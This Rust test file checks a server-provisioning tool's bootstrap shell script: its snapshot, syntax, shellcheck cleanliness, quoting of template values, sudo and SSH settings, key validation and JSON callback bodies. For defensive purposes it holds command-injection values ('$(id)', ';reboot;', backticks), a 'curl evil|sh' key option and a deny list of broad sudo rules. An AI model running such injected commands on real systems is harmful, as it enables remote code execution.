//! The bootstrap script: a snapshot of the rendered script, `bash -n` and shellcheck
//! on it (shellcheck must be installed: Debian package `shellcheck`; this test fails
//! without it), every template value passing through `shell_quote`, hostile values
//! refused or reaching bash byte for byte, and the JSON bodies the script builds
//! parsing into the callback types the application reads.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use brokeforge_core::Port;
use brokeforge_packages::Template;
use brokeforge_packages::bootstrap::{
    BootstrapCompletion, BootstrapProgress, BootstrapReportError, BootstrapScriptError, BootstrapScriptInput,
    BootstrapStep, BootstrapStepStatus, CallbackUrl, SudoRules, render_bootstrap_script,
};
use brokeforge_packages::os::SupportedOs;
use brokeforge_packages::ssh_key::{OpenSshPublicKey, OpenSshPublicKeyError};
use common::fixture;

/// Public keys generated for these tests; their private halves were discarded.
const ROOT_KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMf33zTvNfosTKtygbz4lI/6ocYLJoBBJJy670xP3gHT brokeforge-control-plane root@server-42";
const BROKEFORGE_KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILnXzdC+XxnnruZenJah0ULJbmsmPobYu6J9pz1YCACg brokeforge-control-plane brokeforge@server-42";
const HOST_ED25519: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKXlJV5pbXz6GH1BOeNIstOshW48Vmseo158NCoSk6Y+ root@web-1";
const HOST_ECDSA: &str = "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBLtZyDXai7WgkMwnF5EiYCy3Dor5bz1vcoUx0AcAfoxpfTcxyn3kqb6+85s/9P0Lce2IffFmzZF7ve8RIHuhVzQ= root@web-1";
const HOST_RSA: &str = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDtjz0RXtwrkARvUw+d6RMZ/Fqj8T+Sn0TlKm2v+SjVqXew4MTl77uFpAUC8lRlze/u7MLk6yPUOz0lbHxQi8ookchFKQWNGEqGZhqFwdazvuw07ywvGyxHuZxU5OIQqMHXK9w8tqX9p2rX+N7eXlOLO5pemK8YQuzJuvTOLiJykrCaJS8d9CZ/xPJ3s6874ynltnEG6AVR/UsOEbT0zJOJ/E3bhEhYeT4CnHV14sUDpAB/n7JbInJ5BDEwpDQ/x+0zA09gqR7dg3xQPf+4IoNe41DxWQaIWarLxgVHZhiYhuydGgL5Zd+MQqFaQJ47TbCdF7JPWlCzWE2IZPeFu7AGK89Q6t+/TzU1ewJ2QqT2/2LNt088NobsnsZCHHw8YPENP0A0GQHk1PnoLdbZ+2EQqR/lXLogQ4OSAs0s7uG/I4s+qhPcJzuikvYUxaxzbUMUcRffAqayVBIf1eC9nLqrEJg1W82tNVZtAfkvWEcil7QwN/lbPP06Q8jykOOpAsk= root@web-1";
const DEPLOY_KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDPfbM0wy689IZRj/FWkGT/uWuBqvBaJTSOVHT0/f7Cd brokeforge@web-1";

fn input() -> BootstrapScriptInput {
    BootstrapScriptInput {
        progress_url:
            "https://brokeforge.example.com/bootstrap/42/progress?expires=1767225600&signature=3q2-7w_Zm9vYmFy"
                .parse()
                .unwrap(),
        completion_url:
            "https://brokeforge.example.com/bootstrap/42/complete?expires=1767225600&signature=YmFyYmF6-_q2"
                .parse()
                .unwrap(),
        root_public_key: ROOT_KEY.parse().unwrap(),
        brokeforge_public_key: BROKEFORGE_KEY.parse().unwrap(),
        ssh_port: Port::new(2222).unwrap(),
        sudo_rules: SudoRules::standard(),
    }
}

fn render(input: &BootstrapScriptInput) -> String {
    String::from_utf8(render_bootstrap_script(input).unwrap()).unwrap()
}

/// A file in the temporary directory, removed when dropped.
struct TempFile(PathBuf);

impl TempFile {
    fn new(name: &str, contents: &str) -> Self {
        let path = std::env::temp_dir().join(format!("brokeforge-bootstrap-test-{}-{name}", std::process::id()));
        std::fs::write(&path, contents).unwrap();
        TempFile(path)
    }

    fn path(&self) -> &Path {
        &self.0
    }
}

impl Drop for TempFile {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

fn text(output: &Output) -> String {
    format!(
        "exit {:?}\nstdout:\n{}\nstderr:\n{}",
        output.status.code(),
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

/// Runs `snippet` in bash after sourcing `script` as a library (main does not run).
fn in_bash(script: &TempFile, snippet: &str, args: &[&str]) -> Output {
    let program = format!("source \"$1\"; shift; {snippet}");
    Command::new("bash")
        .arg("-c")
        .arg(program)
        .arg("bootstrap-test")
        .arg(script.path())
        .args(args)
        .env("BROKEFORGE_BOOTSTRAP_LIBRARY", "1")
        .output()
        .expect("bash runs")
}

#[test]
fn the_rendered_script() {
    insta::assert_snapshot!(render(&input()));
}

#[test]
fn the_script_parses() {
    let script = TempFile::new("syntax.sh", &render(&input()));
    let output = Command::new("bash")
        .arg("-n")
        .arg(script.path())
        .output()
        .expect("bash runs");
    assert!(output.status.success(), "{}", text(&output));
}

#[test]
fn shellcheck_finds_nothing() {
    let script = TempFile::new("shellcheck.sh", &render(&input()));
    let output = Command::new("shellcheck")
        .args(["--shell=bash", "--severity=style", "--format=gcc"])
        .arg(script.path())
        .output()
        .unwrap_or_else(|error| {
            panic!("cannot run shellcheck ({error}): install the Debian package shellcheck to run this test")
        });
    assert!(output.status.success(), "{}", text(&output));
}

#[test]
fn every_value_the_template_inserts_is_shell_quoted() {
    let source = Template::BootstrapScript.source();
    let mut expressions = 0;
    for (index, piece) in source.split("{{").enumerate().skip(1) {
        let expression = piece.split("}}").next().unwrap().trim();
        assert!(
            expression.ends_with("| shell_quote"),
            "expression {index} is not shell-quoted: {{{{ {expression} }}}}"
        );
        expressions += 1;
    }
    assert!(expressions > 20, "found {expressions} expressions");
    assert!(!source.contains("{%-") && !source.contains("|safe"), "no raw output");
}

#[test]
fn the_script_carries_only_public_keys_and_narrow_sudo_rules() {
    let script = render(&input());
    assert!(!script.contains("PRIVATE KEY"));
    assert!(!script.to_lowercase().contains("password=") && !script.contains("chpasswd"));
    for forbidden in [
        "NOPASSWD: ALL",
        "NOPASSWD: /bin/bash",
        "NOPASSWD: /usr/bin/bash",
        "/usr/bin/tee",
        "(ALL)",
    ] {
        assert!(!script.contains(forbidden), "{forbidden}");
    }
    assert!(script.contains("brokeforge' ALL=(root) NOPASSWD: /usr/bin/systemctl reload nginx' \\\n"));
    assert!(script.contains("brokeforge' ALL=(root) NOPASSWD: /usr/sbin/nginx -t' \\\n"));
    assert!(script.contains("PermitRootLogin' prohibit-password' \\\n"));
    assert!(script.contains("PasswordAuthentication' no' \\\n"));
    assert!(
        !script.contains("\nPort ") && !script.contains("'Port "),
        "the SSH port is left alone"
    );
    assert!(
        script.trim_end().ends_with("main \"$@\" </dev/null\nfi"),
        "main runs last"
    );
}

#[test]
fn the_library_mode_exposes_the_values_as_rendered() {
    let script = TempFile::new("values.sh", &render(&input()));
    let output = in_bash(
        &script,
        r#"printf '%s\n' "$PROGRESS_URL" "$COMPLETION_URL" "$SSH_PORT" "$ROOT_PUBLIC_KEY" "$ROOT_KEY_MATERIAL" "$APP_USER" "$SUPPORTED_OS_TEXT""#,
        &[],
    );
    assert!(output.status.success(), "{}", text(&output));
    insta::assert_snapshot!(String::from_utf8(output.stdout).unwrap(), @r"
    https://brokeforge.example.com/bootstrap/42/progress?expires=1767225600&signature=3q2-7w_Zm9vYmFy
    https://brokeforge.example.com/bootstrap/42/complete?expires=1767225600&signature=YmFyYmF6-_q2
    2222
    ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMf33zTvNfosTKtygbz4lI/6ocYLJoBBJJy670xP3gHT brokeforge-control-plane root@server-42
    ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMf33zTvNfosTKtygbz4lI/6ocYLJoBBJJy670xP3gHT
    brokeforge
    Ubuntu 22.04 (jammy), Ubuntu 24.04 (noble) and Debian 12 (bookworm)
    ");
}

#[test]
fn hostile_values_reach_bash_as_data() {
    let marker = std::env::temp_dir().join(format!("brokeforge-bootstrap-pwned-{}", std::process::id()));
    let marker = marker.display().to_string();
    let hostile_comment = format!("x'; touch {marker}; echo ' $(touch {marker}) `touch {marker}` \"$HOME\" \\ end");
    let root_key =
        format!("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMf33zTvNfosTKtygbz4lI/6ocYLJoBBJJy670xP3gHT {hostile_comment}");
    let hostile_url = format!("https://example.com/cb?a='$(touch%20{})&b=;id;&c=`id`", "x");
    let mut input = input();
    input.root_public_key = root_key.parse().unwrap();
    match hostile_url.parse::<CallbackUrl>() {
        // Backticks are not URL characters: the URL is refused outright.
        Err(error) => assert_eq!(error.to_string(), "a callback URL cannot contain '`'"),
        Ok(url) => panic!("accepted {url}"),
    }
    let quoted_url = "https://example.com/cb?a='$(id)'&b=;reboot;&c=$HOME";
    input.progress_url = quoted_url.parse().unwrap();
    let script = TempFile::new("hostile.sh", &render(&input));
    let syntax = Command::new("bash").arg("-n").arg(script.path()).output().unwrap();
    assert!(syntax.status.success(), "{}", text(&syntax));
    let output = in_bash(&script, r#"printf '%s\n' "$ROOT_PUBLIC_KEY" "$PROGRESS_URL""#, &[]);
    assert!(output.status.success(), "{}", text(&output));
    let expected = format!(
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMf33zTvNfosTKtygbz4lI/6ocYLJoBBJJy670xP3gHT {hostile_comment}\n{quoted_url}\n"
    );
    assert_eq!(String::from_utf8(output.stdout).unwrap(), expected);
    assert!(!Path::new(&marker).exists(), "a hostile value ran as a command");
}

#[test]
fn hostile_keys_are_refused() {
    let key = |text: &str| text.parse::<OpenSshPublicKey>().unwrap_err();
    assert_eq!(
        key("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n"),
        OpenSshPublicKeyError::PrivateKey
    );
    assert_eq!(
        key(&format!("{ROOT_KEY}\nssh-ed25519 AAAA evil")),
        OpenSshPublicKeyError::MultipleLines
    );
    assert_eq!(
        key(&format!("{ROOT_KEY}\rcommand=\"reboot\" {BROKEFORGE_KEY}")),
        OpenSshPublicKeyError::MultipleLines
    );
    assert_eq!(
        key(&format!("{ROOT_KEY}\u{7}")),
        OpenSshPublicKeyError::ControlCharacter
    );
    assert_eq!(
        key(&format!("command=\"curl evil|sh\" {ROOT_KEY}")),
        OpenSshPublicKeyError::UnsupportedType("command=\"curl".to_owned())
    );
    assert_eq!(key("ssh-ed25519"), OpenSshPublicKeyError::Malformed);
    assert_eq!(key("ssh-ed25519 AAAA$(id)"), OpenSshPublicKeyError::InvalidBase64);
    assert_eq!(
        key("ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIMf33zTvNfosTKtygbz4lI/6ocYLJoBBJJy670xP3gHT"),
        OpenSshPublicKeyError::TypeMismatch {
            declared: "ssh-rsa".to_owned(),
            inside: "ssh-ed25519".to_owned()
        }
    );
    assert_eq!(
        key(&"ssh-ed25519 AAAA".repeat(1000)),
        OpenSshPublicKeyError::TooLong { max: 8192 }
    );
    let with_newline: OpenSshPublicKey = format!("{ROOT_KEY}\n").parse().unwrap();
    assert_eq!(with_newline.authorized_keys_line(), ROOT_KEY);
    assert_eq!(
        serde_json::from_str::<OpenSshPublicKey>(&format!("\"{ROOT_KEY}\\nevil\""))
            .unwrap_err()
            .to_string(),
        "a public key must be one line"
    );
}

#[test]
fn one_key_for_both_accounts_is_refused() {
    let mut input = input();
    input.brokeforge_public_key =
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMf33zTvNfosTKtygbz4lI/6ocYLJoBBJJy670xP3gHT other comment"
            .parse()
            .unwrap();
    let error = render_bootstrap_script(&input).unwrap_err();
    assert!(matches!(error, BootstrapScriptError::SameKeyForBothUsers), "{error:?}");
}

#[test]
fn json_strings_survive_hostile_text() {
    let script = TempFile::new("json.sh", &render(&input()));
    let hostile = [
        "plain",
        "quote \" backslash \\ slash / end",
        "line\nbreak\r\ttab",
        "control \u{1}\u{1f} chars",
        "unicode é ✓ and $(id) `id` ${HOME}",
        "",
    ];
    for value in hostile {
        let output = in_bash(&script, r#"json_string "$1""#, &[value]);
        assert!(output.status.success(), "{}", text(&output));
        let parsed: String = serde_json::from_slice(&output.stdout)
            .unwrap_or_else(|error| panic!("{value:?} gave invalid JSON ({error}): {}", text(&output)));
        let expected: String = value
            .chars()
            .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
            .collect();
        assert_eq!(parsed, expected);
    }
}

#[test]
fn progress_bodies_parse_into_the_callback_type() {
    let script = TempFile::new("progress.sh", &render(&input()));
    let output = in_bash(
        &script,
        r#"progress_body "$@""#,
        &["user", "failed", "visudo said: \"syntax error\"\nnear line 3"],
    );
    assert!(output.status.success(), "{}", text(&output));
    let progress: BootstrapProgress = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(
        progress,
        BootstrapProgress {
            step: BootstrapStep::User,
            status: BootstrapStepStatus::Failed,
            message: Some("visudo said: \"syntax error\"\nnear line 3".to_owned())
        }
    );
    let running = in_bash(&script, r#"progress_body "$@""#, &["sshd", "running"]);
    assert_eq!(
        String::from_utf8(running.stdout).unwrap(),
        r#"{"step":"sshd","status":"running"}"#
    );
    for step in BootstrapStep::ALL {
        assert!(
            render(&input()).contains(&format!("begin_step {} ", step.as_str())) || *step == BootstrapStep::Started
        );
    }
}

#[test]
fn completion_bodies_parse_and_verify() {
    let script = TempFile::new("completion.sh", &render(&input()));
    let os_release = TempFile::new("os-release", &fixture("os-release-debian-12.txt"));
    let ed25519 = TempFile::new("ssh_host_ed25519_key.pub", &format!("{HOST_ED25519}\n"));
    let ecdsa = TempFile::new("ssh_host_ecdsa_key.pub", &format!("{HOST_ECDSA}\n"));
    let rsa = TempFile::new("ssh_host_rsa_key.pub", &format!("{HOST_RSA}\n"));
    let path = |file: &TempFile| file.path().display().to_string();
    let args = [
        DEPLOY_KEY.to_owned(),
        path(&os_release),
        path(&ecdsa),
        path(&ed25519),
        path(&rsa),
        "/nonexistent/ssh_host_dsa_key.pub".to_owned(),
    ];
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let output = in_bash(&script, r#"completion_body "$@""#, &args);
    assert!(output.status.success(), "{}", text(&output));
    let report: BootstrapCompletion = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(report.ssh_host_keys, [HOST_ECDSA, HOST_ED25519, HOST_RSA]);
    assert_eq!(report.os_release, fixture("os-release-debian-12.txt").trim_end());
    let verified = report.verify(Port::new(2222).unwrap()).unwrap();
    assert_eq!(verified.os, SupportedOs::Debian12);
    assert_eq!(verified.deploy_public_key.authorized_keys_line(), DEPLOY_KEY);
    assert_eq!(
        verified
            .ssh_host_keys
            .iter()
            .map(OpenSshPublicKey::key_type)
            .collect::<Vec<_>>(),
        ["ecdsa-sha2-nistp256", "ssh-ed25519", "ssh-rsa"]
    );
}

#[test]
fn bad_completion_reports_are_refused() {
    let report = |keys: &[&str], deploy: &str, os: &str| BootstrapCompletion {
        ssh_host_keys: keys.iter().map(|key| (*key).to_owned()).collect(),
        deploy_public_key: deploy.to_owned(),
        os_release: fixture(os),
        ssh_port: Port::new(2222).unwrap(),
    };
    let port = Port::new(2222).unwrap();
    let error = |report: BootstrapCompletion, port| report.verify(port).unwrap_err().to_string();
    assert_eq!(
        error(
            report(&[HOST_ED25519], DEPLOY_KEY, "os-release-debian-12.txt"),
            Port::new(22).unwrap()
        ),
        "the script checked SSH port 2222, but the server was added with 22"
    );
    assert_eq!(
        error(report(&[], DEPLOY_KEY, "os-release-debian-12.txt"), port),
        "the report holds no SSH host key"
    );
    assert_eq!(
        error(
            report(
                &[HOST_ED25519, "ssh-ed25519 garbage"],
                DEPLOY_KEY,
                "os-release-debian-12.txt"
            ),
            port
        ),
        "SSH host key 2 is not a valid public key: the key's base64 body does not decode"
    );
    assert_eq!(
        error(report(&[HOST_ED25519], HOST_RSA, "os-release-debian-12.txt"), port),
        "the deploy key must be an ed25519 key, not ssh-rsa"
    );
    assert!(
        error(report(&[HOST_ED25519], DEPLOY_KEY, "os-release-ubuntu-20.04.txt"), port)
            .starts_with("unsupported operating system: this server runs Ubuntu 20.04.6 LTS")
    );
    let unknown_field =
        r#"{"ssh_host_keys":[],"deploy_public_key":"","os_release":"","ssh_port":22,"private_key":"x"}"#;
    assert!(serde_json::from_str::<BootstrapCompletion>(unknown_field).is_err());
    assert!(matches!(
        report(&[HOST_ED25519], "ssh-ed25519 AAAA\nx", "os-release-debian-12.txt").verify(port),
        Err(BootstrapReportError::DeployKey(_))
    ));
}

#[test]
fn authorized_keys_get_each_key_once_with_sshd_s_modes() {
    use std::os::unix::fs::PermissionsExt;

    let script = TempFile::new("keys.sh", &render(&input()));
    let directory = std::env::temp_dir().join(format!("brokeforge-bootstrap-keys-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&directory);
    let file = directory.join(".ssh/authorized_keys");
    let file_arg = file.display().to_string();
    let material = ROOT_KEY.parse::<OpenSshPublicKey>().unwrap().key_material();
    assert_eq!(
        material,
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMf33zTvNfosTKtygbz4lI/6ocYLJoBBJJy670xP3gHT"
    );
    let add = || {
        let output = in_bash(&script, r#"add_authorized_key "$@""#, &[&file_arg, ROOT_KEY, &material]);
        assert!(output.status.success(), "{}", text(&output));
        std::fs::read_to_string(&file).unwrap()
    };

    assert_eq!(add(), format!("{ROOT_KEY}\n"), "created");
    assert_eq!(add(), format!("{ROOT_KEY}\n"), "not added twice");
    let mode = |path: &Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&file), 0o600);
    assert_eq!(mode(file.parent().unwrap()), 0o700);

    // A file without a final newline gets one before the new line.
    std::fs::write(&file, HOST_RSA).unwrap();
    assert_eq!(add(), format!("{HOST_RSA}\n{ROOT_KEY}\n"));

    // Another ed25519 key does not count as this one.
    std::fs::write(&file, format!("{DEPLOY_KEY}\n")).unwrap();
    assert_eq!(add(), format!("{DEPLOY_KEY}\n{ROOT_KEY}\n"));

    // The same key with other options or another comment counts as present.
    let restricted = format!("restrict,command=\"uptime\" {material} the admin's copy\n");
    std::fs::write(&file, &restricted).unwrap();
    assert_eq!(add(), restricted);
    std::fs::remove_dir_all(&directory).unwrap();
}
